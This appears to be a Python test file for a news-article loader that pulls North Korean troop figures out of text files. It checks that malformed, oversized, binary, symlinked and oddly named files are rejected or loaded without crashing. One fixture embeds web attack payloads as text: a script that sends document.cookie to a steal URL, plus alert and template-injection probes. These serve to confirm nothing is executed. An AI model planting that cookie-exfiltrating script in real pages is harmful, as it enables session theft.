"""Hostile input: what the loader (analysis.load.load_corpus) does with files that are not
well-formed news articles, and that `python -m analysis extract` still finishes on them.

The contract checked for every folder: each file of the folder appears exactly once, either
in `corpus.articles` (by `.file`) or in `corpus.rejected` (by `.file`); the manifest.csv is
metadata and is neither. Nothing raises and nothing hangs.

| Input                                              | Outcome                                                                     |
|----------------------------------------------------|-----------------------------------------------------------------------------|
| 0-byte file                                        | rejected: `empty file`                                                      |
| whitespace only (spaces, tabs, CR/LF)              | rejected: `whitespace only`                                                 |
| 50 MB file (sparse)                                | rejected: `too large: 52428800 bytes (limit 5242880)`, decided from the size, nothing read (< 2 s, < 1 MB allocated) |
| random binary with NUL bytes                       | rejected: `binary: contains NUL bytes`                                      |
| invalid UTF-8 (cp1252 bytes)                       | loaded, decoded as cp1252 (`\\x93hoax\\x94` -> `“hoax”`); warning `not valid UTF-8 (byte N); decoded as cp1252` |
| UTF-16 LE with BOM, UTF-16 BE with BOM             | loaded, no warning; same body and sentences as the UTF-8 file               |
| CRLF line ends, CR-only line ends                  | loaded; body and sentences (offsets, paragraphs, text) identical to the LF file |
| one 200 KB line (many sentences, no line break)    | loaded as one paragraph; every sentence's offsets slice the body            |
| one 200 KB sentence (no punctuation, no line break)| loaded; cut into sentences of at most 2,000 characters at a space (MAX_SENTENCE_CHARS) |
| a 150 KB run-on line with 3,000 troop figures      | estimates.csv about 1 MB (each row repeats a sentence of at most 2,000 characters), not 450 MB |
| 20,000 numbers                                     | loaded                                                                      |
| HTML with `<script>`                               | loaded as plain text: tags kept verbatim in the body, nothing executed or stripped |
| names with spaces, `'`, `"`, é, 한국어             | loaded; article_id is the name without `.txt`                               |
| sub-folder (also one named `folder.txt`)           | rejected: `ignored: sub-folder (articles are read from the top folder only)`; files inside are not read |
| symlink to itself, two symlinks to each other      | rejected: `unreadable: Too many levels of symbolic links`                   |
| dangling symlink                                   | rejected: `unreadable: No such file or directory`                           |
| FIFO (named pipe) named `.txt`                     | rejected unopened: `unreadable: not a regular file` (opening it would block) |
| file that cannot be opened (PermissionError)       | rejected: `unreadable: Permission denied`                                   |
| `.md` file beside the articles                     | rejected: `ignored: not a .txt article`                                     |
| same body under two names                          | first by name loaded; the other rejected: `duplicate of <first id>`         |
| header `date 2024-13-45`                           | loaded, date empty, warning `bad date '2024-13-45' in header (bad_date.txt line 1: not a calendar date); date left empty` |
| header date differs from manifest date             | loaded with the header date (date_source `header`), warning `header date ... differs from manifest date ...; header wins` |
| `extract` over the whole folder above              | exit 0; articles.csv rows + rejected.csv rows = files in the folder (manifest excluded) |
| file name that is not UTF-8 (bytes `\\xff\\xfe`)  | loaded; article_id and file show the undecodable bytes as `\\xff\\xfe` text; `extract` exits 0 |
| `extract` on articles with no troop figure at all  | exit 0 (an empty chart; was a KeyError in chart.py when first written)      |

Notes: tests run as root, where chmod 000 does not stop reading, so "unreadable" is checked
with a FIFO and with `os.open` patched to raise PermissionError. The strerror texts are
the C library's English messages.
"""

from __future__ import annotations

import csv
import os
import random
import time
import tracemalloc
from pathlib import Path

import pytest

from analysis import cli
from analysis.extract import extract_folder
from analysis.load import Corpus, display_name, load_corpus, read_article
from analysis.sentences import MAX_SENTENCE_CHARS

from conftest import deadline


LIMIT = 5 * 1024 * 1024
SUBFOLDER = "ignored: sub-folder (articles are read from the top folder only)"

# One article in several encodings / line ends. TAG is replaced by a 5-letter word per variant
# so bodies differ (no duplicate rejection) while every offset stays the same.
ARTICLE = (
    "date: 2024-10-21\n"
    "\n"
    "Ukrainian President Volodymyr Zelensky said on Monday that about 3,000 North Korean troops\n"
    "had arrived in the Kursk region. Report TAG was filed on Oct. 21.\n"
    "\n"
    "Kremlin spokesman Dmitry Peskov called the reports a hoax. The NIS said 11 to 12,000\n"
    "soldiers could be deployed by December.\n"
    "\n"
    "Russia fired 170 mm shells at Kharkiv, 30 km from the border.\n"
)
TAGS = {"lf": "alpha", "crlf": "bravo", "cr": "gamma", "utf16le": "delta", "utf16be": "sigma"}


def article_text(tag: str) -> str:
    return ARTICLE.replace("TAG", tag)


def simple_article(words: str) -> str:
    return f"date: 2024-10-25\n\nThe Pentagon said {words} North Korean soldiers were in Russia. Peskov denied it.\n"


def one_line_of_sentences(size: int) -> str:
    """About `size` characters of news sentences on one line."""
    rng = random.Random(11)
    speakers = ["Zelensky", "The NIS", "Budanov", "A Western official", "Peskov"]
    parts: list[str] = []
    total = 0
    while total < size:
        n = rng.choice(["about 3,000", "11 to 12,000", "thousands of", "between 10,000 and 12,000"])
        sentence = (f"{rng.choice(speakers)} said on Oct. {rng.randint(1, 31)} that {n} North Korean "
                    f"troops were {rng.choice(['in Kursk', 'near the front', 'training in Russia'])}.")
        parts.append(sentence)
        total += len(sentence) + 1
    return " ".join(parts)[:size].rsplit(" ", 1)[0] + "."


def one_long_sentence(size: int) -> str:
    """`size` characters of topic words with no punctuation and no line break."""
    words = ("North Korean troops were seen near the border while officials in Seoul and Kyiv "
             "said more soldiers could follow and ")
    return (words * (size // len(words) + 1))[:size]


def twenty_thousand_numbers() -> str:
    """20,000 numbers as a data dump: integers, thousands, decimals, years, in sentences."""
    rng = random.Random(12)
    forms = [lambda: f"{rng.randint(0, 999)}", lambda: f"{rng.randint(1000, 99999):,}",
             lambda: f"{rng.uniform(0, 100):.2f}", lambda: f"{rng.randint(1950, 2030)}"]
    lines = []
    for row in range(200):
        values = ", ".join(rng.choice(forms)() for _ in range(100))
        lines.append(f"Row {row}: the table lists {values}.")
    return "Statistical annex.\n\n" + "\n\n".join(lines) + "\n"


HTML_ARTICLE = (
    "<!DOCTYPE html><html><head><title>x</title>\n"
    "<script>document.title = 'pwned'; fetch('http://127.0.0.1:9/steal?c=' + document.cookie);</script>\n"
    "<style>body { display: none }</style></head>\n"
    "<body onload=\"alert(1)\"><p>Budanov said <b>about 11,000</b> North Korean troops were in Kursk.</p>\n"
    "<img src=x onerror=alert(2)>{{ 7*7 }} ${7*7} <?php echo 1; ?></body></html>\n"
)

MANIFEST = (
    "article_id,date,outlet,url,title,date_basis\n"
    "header_vs_manifest,2024-10-20,Yonhap,,,test\n"
    "no_header_manifest_date,2024-11-02,,,,test\n"
)

# file name -> (outcome, reason or None). Loaded files have None.
EXPECTED: dict[str, tuple[str, str | None]] = {
    "empty.txt": ("rejected", "empty file"),
    "whitespace.txt": ("rejected", "whitespace only"),
    "huge_50mb.txt": ("rejected", f"too large: {50 * 1024 * 1024} bytes (limit {LIMIT})"),
    "binary.txt": ("rejected", "binary: contains NUL bytes"),
    "cp1252.txt": ("loaded", None),
    "utf16le.txt": ("loaded", None),
    "utf16be.txt": ("loaded", None),
    "lf.txt": ("loaded", None),
    "crlf.txt": ("loaded", None),
    "cr_only.txt": ("loaded", None),
    "one_line_200kb.txt": ("loaded", None),
    "one_sentence_200kb.txt": ("loaded", None),
    "numbers_20000.txt": ("loaded", None),
    "html_script.txt": ("loaded", None),
    "with spaces in name.txt": ("loaded", None),
    "single ' quote.txt": ("loaded", None),
    'double " quote.txt': ("loaded", None),
    "café é.txt": ("loaded", None),
    "한국어 기사.txt": ("loaded", None),
    "subdir": ("rejected", SUBFOLDER),
    "folder.txt": ("rejected", SUBFOLDER),
    "self_loop.txt": ("rejected", "unreadable: Too many levels of symbolic links"),
    "loop_a.txt": ("rejected", "unreadable: Too many levels of symbolic links"),
    "loop_b.txt": ("rejected", "unreadable: Too many levels of symbolic links"),
    "dangling.txt": ("rejected", "unreadable: No such file or directory"),
    "fifo.txt": ("rejected", "unreadable: not a regular file"),
    "notes.md": ("rejected", "ignored: not a .txt article"),
    "dup_a.txt": ("loaded", None),
    "dup_b.txt": ("rejected", "duplicate of dup_a"),
    "bad_date.txt": ("loaded", None),
    "header_vs_manifest.txt": ("loaded", None),
    "no_header_manifest_date.txt": ("loaded", None),
}


def write_hostile_folder(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "whitespace.txt").write_bytes(b"  \t \r\n\n   \n\t\r\n ")
    with (folder / "huge_50mb.txt").open("wb") as handle:  # sparse: no 50 MB actually written
        handle.truncate(50 * 1024 * 1024)
    rng = random.Random(5)
    (folder / "binary.txt").write_bytes(b"\x00\x01PK" + bytes(rng.randrange(256) for _ in range(4096)) + b"\x00")
    (folder / "cp1252.txt").write_bytes(
        b"date: 2024-10-22\n\nKremlin spokesman Dmitry Peskov called the reports a \x93hoax\x94 \x96 "
        b"caf\xe9 talk about 3,000 North Korean troops.\n")
    (folder / "lf.txt").write_bytes(article_text(TAGS["lf"]).encode("utf-8"))
    (folder / "crlf.txt").write_bytes(article_text(TAGS["crlf"]).replace("\n", "\r\n").encode("utf-8"))
    (folder / "cr_only.txt").write_bytes(article_text(TAGS["cr"]).replace("\n", "\r").encode("utf-8"))
    (folder / "utf16le.txt").write_bytes(b"\xff\xfe" + article_text(TAGS["utf16le"]).encode("utf-16-le"))
    (folder / "utf16be.txt").write_bytes(b"\xfe\xff" + article_text(TAGS["utf16be"]).encode("utf-16-be"))
    (folder / "one_line_200kb.txt").write_text(one_line_of_sentences(200_000), encoding="utf-8")
    (folder / "one_sentence_200kb.txt").write_text(one_long_sentence(200_000), encoding="utf-8")
    (folder / "numbers_20000.txt").write_text(twenty_thousand_numbers(), encoding="utf-8")
    (folder / "html_script.txt").write_text(HTML_ARTICLE, encoding="utf-8")
    for number, name in enumerate(["with spaces in name.txt", "single ' quote.txt", 'double " quote.txt',
                                   "café é.txt", "한국어 기사.txt"]):
        (folder / name).write_text(simple_article(f"{number + 1},500"), encoding="utf-8")
    (folder / "subdir").mkdir()
    (folder / "subdir" / "inside.txt").write_text(simple_article("9,999"), encoding="utf-8")
    (folder / "folder.txt").mkdir()
    (folder / "self_loop.txt").symlink_to("self_loop.txt")
    (folder / "loop_a.txt").symlink_to("loop_b.txt")
    (folder / "loop_b.txt").symlink_to("loop_a.txt")
    (folder / "dangling.txt").symlink_to("does_not_exist.txt")
    os.mkfifo(folder / "fifo.txt")
    (folder / "notes.md").write_text("# Notes\n\nZelensky said 3,000 troops.\n", encoding="utf-8")
    (folder / "dup_a.txt").write_text(simple_article("7,000"), encoding="utf-8")
    (folder / "dup_b.txt").write_text(simple_article("7,000"), encoding="utf-8")
    (folder / "bad_date.txt").write_text(
        "date 2024-13-45\n\nBudanov said 8,000 North Korean troops were in Kursk.\n", encoding="utf-8")
    (folder / "header_vs_manifest.txt").write_text(
        "date: 2024-10-25\n\nThe NIS said 10,000 North Korean soldiers were in Russia.\n", encoding="utf-8")
    (folder / "no_header_manifest_date.txt").write_text(
        "A Western official said 12,000 North Korean soldiers were in Russia.\n", encoding="utf-8")
    (folder / "manifest.csv").write_text(MANIFEST, encoding="utf-8")


def folder_files(folder: Path) -> list[str]:
    return sorted(display_name(name) for name in os.listdir(folder) if name != "manifest.csv")


def assert_accounted(corpus: Corpus, folder: Path) -> None:
    """Every file in the folder exactly once in articles or rejected; nothing else there."""
    seen = sorted([a.file for a in corpus.articles] + [r.file for r in corpus.rejected])
    assert seen == folder_files(folder)


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    write_hostile_folder(folder)
    return folder


@pytest.fixture(scope="module")
def hostile(hostile_dir) -> Corpus:
    with deadline(30):
        return load_corpus(hostile_dir)


def outcome(corpus: Corpus, name: str):
    articles = [a for a in corpus.articles if a.file == name]
    rejected = [r for r in corpus.rejected if r.file == name]
    assert len(articles) + len(rejected) == 1, f"{name}: {articles} {rejected}"
    return ("loaded", articles[0]) if articles else ("rejected", rejected[0])


def test_every_file_is_accounted_for_exactly_once(hostile, hostile_dir):
    assert sorted(EXPECTED) == folder_files(hostile_dir)
    assert_accounted(hostile, hostile_dir)
    assert [a.article_id for a in hostile.articles] == sorted(a.article_id for a in hostile.articles)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_expected_outcome(hostile, name):
    kind, reason = EXPECTED[name]
    got_kind, got = outcome(hostile, name)
    assert got_kind == kind, got
    if kind == "rejected":
        assert got.reason == reason
    else:
        assert got.article_id == name[: -len(".txt")]
        for sentence in got.sentences:
            assert got.body[sentence.start:sentence.end] == sentence.text


def test_50mb_file_is_rejected_from_its_size_without_reading(tmp_path):
    with (tmp_path / "huge.txt").open("wb") as handle:
        handle.truncate(50 * 1024 * 1024)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        corpus = load_corpus(tmp_path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 2.0
    assert peak < 1024 * 1024, f"{peak} bytes allocated: the file was read"
    assert [(r.file, r.reason) for r in corpus.rejected] == [("huge.txt", f"too large: {50 * 1024 * 1024} bytes (limit {LIMIT})")]


def test_invalid_utf8_is_decoded_as_cp1252_with_a_warning(hostile):
    _, article = outcome(hostile, "cp1252.txt")
    assert "\u201choax\u201d \u2013 caf\u00e9" in article.body
    assert [w for w in article.warnings if w.startswith("not valid UTF-8 (byte ") and w.endswith("decoded as cp1252")]


def _shape(article, tag):
    return article.body.replace(tag, "TAG"), [
        (s.sentence_no, s.paragraph_no, s.start, s.end, s.text.replace(tag, "TAG")) for s in article.sentences]


@pytest.mark.parametrize("name, variant", [("crlf.txt", "crlf"), ("cr_only.txt", "cr"),
                                           ("utf16le.txt", "utf16le"), ("utf16be.txt", "utf16be")])
def test_line_ends_and_utf16_give_the_lf_sentences(hostile, name, variant):
    _, reference = outcome(hostile, "lf.txt")
    _, article = outcome(hostile, name)
    assert _shape(article, TAGS[variant]) == _shape(reference, TAGS["lf"])
    assert len(reference.sentences) >= 4
    assert article.warnings == ()
    assert (article.date, article.date_source) == ("2024-10-21", "header")


def test_200kb_line_is_one_paragraph_of_many_sentences(hostile):
    _, article = outcome(hostile, "one_line_200kb.txt")
    assert len(article.body) > 190_000
    assert {s.paragraph_no for s in article.sentences} == {1}
    assert len(article.sentences) > 1000


def test_200kb_sentence_is_loaded_in_pieces_cut_between_words(hostile):
    _, article = outcome(hostile, "one_sentence_200kb.txt")
    body = article.body
    assert len(body) == 200_000
    spans = [(s.start, s.end) for s in article.sentences]
    assert len(spans) >= 200_000 // MAX_SENTENCE_CHARS
    assert all(0 < end - start <= MAX_SENTENCE_CHARS for start, end in spans)
    assert spans[0][0] == 0 and spans[-1][1] == len(body)
    for (_, end), (start, _) in zip(spans, spans[1:]):
        assert body[end:start].isspace()  # cut at a space: no word is split
    assert "".join("".join(body[a:b].split()) for a, b in spans) == "".join(body.split())  # nothing lost


def test_a_run_on_line_full_of_figures_writes_tables_that_grow_with_it_not_with_its_square(tmp_path):
    """Every row repeats its sentence as evidence: a 150 KB line with 3,000 troop figures, read
    as one sentence, would write 450 MB of estimates. Cut into pieces, it writes about 1 MB."""
    folder = tmp_path / "articles"
    folder.mkdir()
    line = ", and ".join(f"North Korea sent {1000 + i:,} troops, officials said" for i in range(3000))
    (folder / "run_on.txt").write_text("date: 2024-11-01\n\n" + line + ".\n", encoding="utf-8")
    result = extract_folder(folder, tmp_path / "out", workers=1)
    estimates = tmp_path / "out" / "tables" / "estimates.csv"
    assert result.n_estimates >= 2_900
    assert estimates.stat().st_size < result.n_estimates * (MAX_SENTENCE_CHARS + 400)


def test_html_is_loaded_as_text(hostile):
    _, article = outcome(hostile, "html_script.txt")
    assert "<script>document.title = 'pwned';" in article.body
    assert "onerror=alert(2)" in article.body and "<?php echo 1; ?>" in article.body
    assert article.body == HTML_ARTICLE.strip()


def test_sub_folder_contents_are_not_read(hostile):
    assert "inside.txt" not in {a.file for a in hostile.articles} | {r.file for r in hostile.rejected}


def test_duplicates_keep_the_first_by_name(hostile):
    _, kept = outcome(hostile, "dup_a.txt")
    _, dropped = outcome(hostile, "dup_b.txt")
    assert kept.article_id == "dup_a" and dropped.reason == "duplicate of dup_a"


def test_bad_header_date_is_kept_undated_with_a_warning(hostile):
    _, article = outcome(hostile, "bad_date.txt")
    assert (article.date, article.date_source) == ("", "none")
    assert "bad date '2024-13-45' in header (bad_date.txt line 1: not a calendar date); date left empty" in article.warnings
    assert article.body.startswith("Budanov said")


def test_header_date_wins_over_manifest(hostile):
    _, article = outcome(hostile, "header_vs_manifest.txt")
    assert (article.date, article.date_source) == ("2024-10-25", "header")
    assert any("differs from manifest date 2024-10-20; header wins" in w for w in article.warnings)
    _, from_manifest = outcome(hostile, "no_header_manifest_date.txt")
    assert (from_manifest.date, from_manifest.date_source) == ("2024-11-02", "manifest")


def test_fifo_alone_does_not_block(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")
    with deadline(10):
        corpus = load_corpus(tmp_path)
    assert [(r.file, r.reason) for r in corpus.rejected] == [("pipe.txt", "unreadable: not a regular file")]


def test_file_that_cannot_be_opened_is_rejected(tmp_path, monkeypatch):
    (tmp_path / "locked.txt").write_text(simple_article("4,000"), encoding="utf-8")
    (tmp_path / "open.txt").write_text(simple_article("5,000"), encoding="utf-8")
    real_open = os.open  # the loader opens with os.open (O_NOFOLLOW | O_NONBLOCK), then fstat

    def refuse(path, *args, **kwargs):
        if os.path.basename(os.fspath(path)) == "locked.txt":
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", refuse)
    corpus = load_corpus(tmp_path)
    assert [a.file for a in corpus.articles] == ["open.txt"]
    assert [(r.file, r.reason) for r in corpus.rejected] == [("locked.txt", "unreadable: Permission denied")]
    assert_accounted(corpus, tmp_path)


def test_read_article_never_raises_on_the_hostile_files(hostile_dir):
    with deadline(30):
        for name in sorted(EXPECTED):
            read_article(hostile_dir / name, name.rsplit(".", 1)[0])


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_extract_over_the_whole_hostile_folder(hostile_dir, tmp_path, capsys):
    out = tmp_path / "out"
    with deadline(60):
        code = cli.main(["extract", "--articles", str(hostile_dir), "--out", str(out)])
    assert code == 0, capsys.readouterr()
    articles = _csv_rows(out / "tables" / "articles.csv")
    rejected = _csv_rows(out / "tables" / "rejected.csv")
    assert len(articles) + len(rejected) == len(folder_files(hostile_dir))
    assert sorted([r["file"] for r in articles] + [r["file"] for r in rejected]) == folder_files(hostile_dir)
    loaded = sorted(name for name, (kind, _) in EXPECTED.items() if kind == "loaded")
    assert sorted(r["file"] for r in articles) == loaded


def test_extract_on_articles_without_troop_figures(tmp_path, capsys):
    folder = tmp_path / "plain"
    folder.mkdir()
    (folder / "weather.txt").write_text("date: 2024-10-01\n\nThe weather in Seoul was mild.\n", encoding="utf-8")
    assert cli.main(["extract", "--articles", str(folder), "--out", str(tmp_path / "out")]) == 0


def test_non_utf8_file_name_is_loaded(tmp_path):
    (tmp_path / os.fsdecode(b"bad\xff\xfename.txt")).write_text(simple_article("6,000"), encoding="utf-8")
    corpus = load_corpus(tmp_path)
    assert [a.article_id for a in corpus.articles] == ["bad\\xff\\xfename"]  # shown as text, not surrogates
    assert_accounted(corpus, tmp_path)


def test_extract_with_a_non_utf8_file_name(tmp_path):
    folder = tmp_path / "names"
    folder.mkdir()
    (folder / os.fsdecode(b"bad\xff\xfename.txt")).write_text(simple_article("6,000"), encoding="utf-8")
    (folder / "good.txt").write_text(article_text("alpha"), encoding="utf-8")
    assert cli.main(["extract", "--articles", str(folder), "--out", str(tmp_path / "out")]) == 0
    ids = [row["article_id"] for row in _csv_rows(tmp_path / "out" / "tables" / "articles.csv")]
    assert ids == ["bad\\xff\\xfename", "good"]
